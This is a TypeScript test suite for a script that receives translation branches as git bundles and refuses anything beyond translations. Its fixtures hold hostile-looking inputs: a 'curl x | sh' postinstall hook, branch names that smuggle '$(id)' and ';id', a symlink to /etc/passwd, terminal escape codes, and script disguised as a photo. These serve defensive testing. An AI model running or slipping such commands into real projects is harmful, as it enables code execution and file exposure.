import { spawnSync } from 'node:child_process'
import { chmodSync, existsSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { receiveTranslations } from '../../scripts/i18n/receive.ts'
import { callNow, TranslatorClone } from '../support/translator-clone.ts'

describe('npm run i18n:receive takes a file only when it holds a translation and nothing else', () => {
  let team: TranslatorClone
  let withPosition: Buffer
  const senders: string[] = []
  beforeAll(async () => {
    withPosition = await sharp({ create: { width: 60, height: 40, channels: 3, background: '#147a6e' } })
      .jpeg()
      .withExifMerge({ IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '5/1 33/1 0/1' } })
      .toBuffer()
    team = new TranslatorClone({ withRemote: false })
    team.git('branch', 'release')
    // A second commit on main, which a tip built on main's parent could undo.
    team.write('NOTES.md', 'The team’s notes.\n')
    team.git('add', 'NOTES.md')
    team.git('commit', '--quiet', '-m', 'Notes')
    // Settings a developer may well have, each of which made porcelain `git log` hide what a merge brings.
    for (const [name, value] of Object.entries(hostileConfig)) team.git('config', name, value)
  })
  afterAll(() => {
    team.remove()
    for (const folder of senders) rmSync(folder, { recursive: true, force: true })
  })

  const hostileConfig = {
    'log.diffMerges': 'first-parent',
    'log.showRoot': 'false',
    'diff.renames': 'copies',
    'core.quotePath': 'true',
    'color.ui': 'always',
  }
  const branch = 'translations/fr-2030-01-02-0905'
  type Sender = { git: (...args: string[]) => string; write: (path: string, text: string | Buffer) => void; folder: string }

  /** A file as anyone with a clone of the team's repository can write it: `build` makes the commits, `refs` are bundled. */
  function bundle(build: (sender: Sender) => void, refs: string[]): string {
    const folder = mkdtempSync(join(tmpdir(), 'studio-sender-'))
    senders.push(folder)
    spawnSync('git', ['clone', '--quiet', team.root, folder])
    const git = (...args: string[]) => {
      const result = spawnSync('git', args, { cwd: folder, encoding: 'utf8' })
      if (result.status !== 0) throw new Error(`git ${args.join(' ')}: ${result.stderr}`)
      return result.stdout.trim()
    }
    const write = (path: string, text: string | Buffer) => {
      mkdirSync(dirname(join(folder, path)), { recursive: true })
      writeFileSync(join(folder, path), text)
    }
    git('config', 'user.name', 'Sender')
    git('config', 'user.email', 'sender@example.com')
    build({ git, write, folder })
    git('bundle', 'create', '--quiet', 'sent.bundle', ...refs, `^${team.git('rev-parse', 'main')}`)
    return join(folder, 'sent.bundle')
  }

  /** A French translation committed on `name`, with `subject`. */
  const translation =
    (name: string, subject = 'French translations: 1 text from the translation workspace') =>
    ({ git, write }: Sender, from = 'main') => {
      git('checkout', '--quiet', '-b', name, from)
      write('locales/fr/home.json', team.read('locales/fr/home.json').replace(callNow, callNow.replace('nous', 'nous vite')))
      git('commit', '--quiet', '-am', subject)
    }

  /** Every branch and tag of the team's repository, where it points, and whether a fetch left a note. */
  const state = () => ({
    refs: team.git('for-each-ref', '--format=%(refname) %(objectname)'),
    fetched: existsSync(join(team.root, '.git/FETCH_HEAD')),
  })

  async function expectRefused(file: string, reasons: RegExp[]) {
    const before = state()
    expect(await receiveTranslations(team.root, file)).toEqual({
      status: 'refused',
      reasons: reasons.map((reason) => expect.stringMatching(reason)),
    })
    expect(state()).toEqual(before)
  }

  it('refuses branches that npm run i18n:send does not make, and moves none of the team’s', async () => {
    const file = bundle(
      (sender) => {
        translation('translations/fr')(sender)
        sender.git('branch', '--force', 'main')
        sender.git('branch', '--force', 'release')
      },
      ['refs/heads/main', 'refs/heads/release'],
    )
    await expectRefused(file, [/^refs\/heads\/main is not a branch npm run i18n:send makes/, /^refs\/heads\/release is not/])
  })

  it('refuses a branch of the same name as one of the team’s', async () => {
    team.git('branch', branch, 'main')
    try {
      await expectRefused(bundle(translation(branch), [`refs/heads/${branch}`]), [
        /^The branch translations\/fr-2030-01-02-0905 exists here already/,
      ])
    } finally {
      team.git('branch', '--delete', '--force', branch)
    }
  })

  it('refuses a file with a tag, and makes no tag', async () => {
    const file = bundle(
      (sender) => {
        translation(branch)(sender)
        sender.git('tag', 'v9.9')
      },
      [`refs/heads/${branch}`, 'refs/tags/v9.9'],
    )
    await expectRefused(file, [/^refs\/tags\/v9\.9 is not a branch/])
    expect(team.git('tag', '--list')).toBe('')
  })

  it('refuses branch names that would run commands if pasted into a shell', async () => {
    const names = ['translations/fr$(id)', `${branch};id`]
    const file = bundle(
      (sender) => names.forEach((name) => translation(name)(sender)),
      names.map((name) => `refs/heads/${name}`),
    )
    await expectRefused(file, [/^refs\/heads\/translations\/fr\$\(id\) is not/, /^refs\/heads\/translations\/fr-2030-01-02-0905;id is not/])
  })

  it('refuses a commit that changes anything but translations, naming each file', async () => {
    const file = bundle(
      (sender) => {
        translation(branch)(sender)
        sender.write('package.json', team.read('package.json').replace('"private"', '"postinstall": "curl x | sh", "private"'))
        sender.write('scripts/hooks/post-checkout', '#!/bin/sh\ntouch "$HOME/hooked"\n')
        sender.git('add', '-A')
        sender.git('commit', '--quiet', '-m', 'French translations')
      },
      [`refs/heads/${branch}`],
    )
    // The hook would run if the team's git looked for hooks in the received tree.
    team.git('config', 'core.hooksPath', 'scripts/hooks')
    try {
      await expectRefused(file, [
        /^package\.json is not a file a translation may change/,
        /^scripts\/hooks\/post-checkout is not a file a translation may change/,
      ])
    } finally {
      team.git('config', '--unset', 'core.hooksPath')
    }
  })

  it('takes names added to the glossary’s keepAsIs, and refuses any other change of the glossary, naming it', async () => {
    const glossary = JSON.parse(team.read('locales/glossary.json')) as { keepAsIs: string[]; terms: unknown[] }
    const withGlossary = (name: string, changed: object) => (sender: Sender) => {
      translation(name)(sender)
      sender.write('locales/glossary.json', `${JSON.stringify({ ...glossary, ...changed }, null, 2)}\n`)
      sender.git('commit', '--quiet', '-am', 'French translations')
    }
    const kept = 'translations/fr-2030-01-02-0911'
    const received = await receiveTranslations(
      team.root,
      bundle(withGlossary(kept, { keepAsIs: [...glossary.keepAsIs, 'TikTok'] }), [`refs/heads/${kept}`]),
    )
    expect(received).toMatchObject({ status: 'received', files: ['locales/fr/home.json', 'locales/glossary.json'] })
    team.git('branch', '--delete', '--force', kept)

    const terms = 'translations/fr-2030-01-02-0912'
    await expectRefused(bundle(withGlossary(terms, { terms: glossary.terms.slice(1) }), [`refs/heads/${terms}`]), [
      /^locales\/glossary\.json changes more than the names kept as in English/,
    ])
    const removed = 'translations/fr-2030-01-02-0913'
    await expectRefused(bundle(withGlossary(removed, { keepAsIs: glossary.keepAsIs.slice(1) }), [`refs/heads/${removed}`]), [
      /^locales\/glossary\.json changes more than the names kept as in English/,
    ])
  })

  it('refuses a symbolic link among the translations', async () => {
    const file = bundle(
      (sender) => {
        translation(branch)(sender)
        symlinkSync('/etc/passwd', join(sender.git('rev-parse', '--show-toplevel'), 'locales/fr/secrets.json'))
        sender.git('add', '-A')
        sender.git('commit', '--quiet', '-m', 'French translations')
      },
      [`refs/heads/${branch}`],
    )
    await expectRefused(file, [
      /^locales\/fr\/secrets\.json is a symbolic link, which could lead anywhere on this computer\. Ask for it as a plain file\.$/,
    ])
  })

  it('takes a translation as its branch, runs no hook, prints its files and a merge command safe to paste, with no terminal escapes', async () => {
    const subject = 'French translations\u001b]0;pwned\u0007\u001b[2J: 1 text'
    const file = bundle(translation(branch, subject), [`refs/heads/${branch}`])
    const hooked = join(team.root, 'hooked')
    for (const hook of ['post-checkout', 'reference-transaction']) {
      team.write(`.git/hooks/${hook}`, `#!/bin/sh\ntouch '${hooked}'\n`)
      chmodSync(join(team.root, `.git/hooks/${hook}`), 0o755)
    }

    const { status, output } = team.run(`node scripts/i18n.ts receive ${file}`)

    expect(output).not.toContain('\u001b')
    expect(output).toContain(`Branch ${branch}: French translations: 1 text\n`)
    expect(output).toContain('It changes 1 file:\n  locales/fr/home.json\n')
    expect(output).toContain(`To take it: git merge ${branch} (or push it`)
    expect(status).toBe(0)
    expect(team.git('show', `${branch}:locales/fr/home.json`)).toContain('Appelez-nous vite')
    expect(existsSync(hooked)).toBe(false)
    team.git('branch', '--delete', '--force', branch)
  })

  /** A French translation with `change` made beside it, in the same commit. */
  const translationWith = (change: (sender: Sender) => void) => (sender: Sender) => {
    translation(branch)(sender)
    change(sender)
    sender.git('add', '-A')
    sender.git('commit', '--quiet', '--amend', '--no-edit')
  }

  it('refuses a merge commit whose tree undoes the team’s work, though each parent looks harmless', async () => {
    const file = bundle(
      (sender) => {
        translation(branch)(sender, 'main~1')
        // Its first parent is main's parent, its second main: `git merge` would fast-forward main to this tree.
        const merge = sender.git('commit-tree', `${branch}^{tree}`, '-p', 'main~1', '-p', 'main', '-m', 'French translations')
        sender.git('update-ref', `refs/heads/${branch}`, merge)
      },
      [`refs/heads/${branch}`],
    )
    await expectRefused(file, [/^NOTES\.md is not a file a translation may change/])
  })

  it('refuses a history that joins an unrelated root commit holding another package.json', async () => {
    const file = bundle(
      (sender) => {
        translation(branch)(sender)
        sender.write('package.json', team.read('package.json').replace('"private"', '"postinstall": "curl x | sh", "private"'))
        sender.git('add', 'package.json')
        const tree = sender.git('write-tree')
        const root = sender.git('commit-tree', tree, '-m', 'French translations')
        sender.git(
          'update-ref',
          `refs/heads/${branch}`,
          sender.git('commit-tree', tree, '-p', root, '-p', 'main', '-m', 'French translations'),
        )
      },
      [`refs/heads/${branch}`],
    )
    const before = state()
    const received = await receiveTranslations(team.root, file)
    expect(received).toMatchObject({
      status: 'refused',
      reasons: expect.arrayContaining([expect.stringMatching(/^package\.json is not a file/)]),
    })
    expect(state()).toEqual(before)
  })

  it('refuses a translation built on a branch the team has not merged, naming what that branch brings', async () => {
    team.git('checkout', '--quiet', '-b', 'team-unmerged')
    team.replace('package.json', '"private"', '"postinstall": "node setup.js", "private"')
    team.git('commit', '--quiet', '-am', 'Work in progress')
    team.git('checkout', '--quiet', 'main')
    try {
      const file = bundle(
        (sender) => translation(branch)(sender, 'origin/team-unmerged'),
        [`refs/heads/${branch}`, '^origin/team-unmerged'],
      )
      await expectRefused(file, [/^package\.json is not a file a translation may change/])
    } finally {
      team.git('branch', '--delete', '--force', 'team-unmerged')
    }
  })

  it('refuses a translation that no longer merges cleanly, naming the file both changed', async () => {
    const file = bundle(translation(branch), [`refs/heads/${branch}`])
    team.replace('locales/fr/home.json', callNow, callNow.replace('Appelez-nous', 'Téléphonez-nous'))
    team.git('commit', '--quiet', '-am', 'Another wording')
    try {
      await expectRefused(file, [
        /^translations\/fr-2030-01-02-0905 cannot be merged into main without conflicts, in locales\/fr\/home\.json: both changed the same lines\. Ask the translator to update/,
      ])
    } finally {
      team.git('reset', '--quiet', '--hard', 'HEAD~1')
    }
  })

  it('refuses a file past the size of any photo before checking anything out', async () => {
    const file = bundle(
      translationWith(({ write }) => write('locales/fr/huge.json', `"${' '.repeat(6 * 2 ** 20)}"`)),
      [`refs/heads/${branch}`],
    )
    await expectRefused(file, [/^locales\/fr\/huge\.json is 6\.0 MB; a file sent with a translation is 5\.0 MB at most/])
  })

  it.each([
    [
      'data that its schema refuses',
      ({ write }: Sender) =>
        write('src/content/data/plans.json', team.read('src/content/data/plans.json').replace('"priceUsd": 150', '"priceUsd": "free"')),
      /^src\/content\/data\/plans\.json › plans\[0\] "businessGrowth" › priceUsd: expected a number/,
    ],
    [
      'a data file deleted',
      ({ folder }: Sender) => unlinkSync(join(folder, 'src/content/data/contact.json')),
      /^src\/content\/data\/contact\.json: is missing: the site reads it/,
    ],
    [
      'a web page named as a photo',
      ({ write }: Sender) => write('src/content/photos/evil.png', '<html><script>alert(1)</script></html>'),
      /^src\/content\/photos\/evil\.png is not a JPEG, PNG or WebP photo \(it is a web page or an SVG drawing\)/,
    ],
    [
      'a photo that still carries its GPS position',
      ({ write }: Sender) => write('src/content/photos/office.jpg', withPosition),
      /^src\/content\/photos\/office\.jpg still carries metadata \(exif\).*Add it with npm run photo:add, which strips it\.$/,
    ],
  ])('refuses %s, naming the file and why', async (_, change, reason) => {
    await expectRefused(bundle(translationWith(change), [`refs/heads/${branch}`]), [reason])
  })

  it('takes new contact details only with every changed fact named, the contact details first and loudly', async () => {
    const name = 'translations/fr-2030-01-03-1000'
    const file = bundle(
      (sender) => {
        translation(name)(sender)
        sender.write('src/content/data/contact.json', team.read('src/content/data/contact.json').replace('+233201234567', '+447700900123'))
        sender.write('src/content/data/plans.json', team.read('src/content/data/plans.json').replace('"priceUsd": 150', '"priceUsd": 175'))
        sender.git('commit', '--quiet', '-am', 'French translations and new details')
      },
      [`refs/heads/${name}`],
    )
    try {
      const received = await receiveTranslations(team.root, file)
      expect(received).toMatchObject({
        status: 'received',
        files: ['locales/fr/home.json', 'src/content/data/contact.json', 'src/content/data/plans.json'],
        facts: [
          {
            file: 'src/content/data/contact.json',
            place: 'phone.e164',
            before: '"+233201234567"',
            after: '"+447700900123"',
            contact: true,
          },
          {
            file: 'src/content/data/plans.json',
            place: 'plans[0] "businessGrowth" › priceUsd',
            before: '150',
            after: '175',
            contact: false,
          },
        ],
      })
      const { notes } = received as { notes: string[] }
      expect(notes[0]).toMatch(/^⚠ IT CHANGES THE STUDIO’S CONTACT DETAILS\. Enquiries and leads would go to these/)
      expect(notes[1]).toBe('  src/content/data/contact.json › phone.e164: "+233201234567" → "+447700900123"')
      expect(notes.slice(2)).toEqual([
        'Facts it changes on the pages:',
        '  src/content/data/plans.json › plans[0] "businessGrowth" › priceUsd: 150 → 175',
      ])
    } finally {
      team.git('branch', '--delete', '--force', name)
    }
  })
})
